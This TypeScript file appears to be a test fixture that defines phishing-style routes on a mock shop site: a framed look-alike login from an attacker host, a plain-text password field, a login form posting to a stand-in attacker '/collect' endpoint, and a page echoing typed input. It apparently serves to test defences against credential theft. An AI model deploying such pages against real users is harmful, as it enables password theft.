import { html, page } from "./html.ts";
import { logInPage } from "./log-in.ts";
import type { Routes } from "./visit.ts";

/** Pages of the site that are after what should be kept. */
export const hostileRoutes: Routes = {
  /** The true page, with a frame of another host that asks too. */
  "GET /hostile/framed": (_, { attackerUrl }) => ({
    html: page(
      "Your session has ended",
      html`<p>Please log in again.</p>
        <iframe src="${attackerUrl}/frame" title="Log in"></iframe>`,
    ),
  }),
  /** What is called a password is typed in the open. */
  "GET /hostile/open": (_, shop) => ({
    html: logInPage(shop, "", undefined, { passwordType: "text" }),
  }),
  /** The true page whose form goes to another host. */
  "GET /hostile/elsewhere": (_, shop) => ({
    html: logInPage(shop, "", undefined, { action: `${shop.attackerUrl}/collect` }),
  }),
  /** Shows what is typed; `?in=` says where: page, title, url, console, request, field, attribute, spans, type. */
  "GET /hostile/echo": (_, shop) => ({
    html: logInPage(shop, "", undefined, {
      scripts: ["echo.js"],
      beside: html`<p id="echo" role="status"></p>`,
    }),
  }),
};

/** The attacker's own host. */
export const attackerRoutes: Routes = {
  /** Looks just as the true page does. */
  "GET /login": (_, shop) => ({ html: logInPage(shop) }),
  "GET /frame": (_, shop) => ({ html: logInPage(shop) }),
};
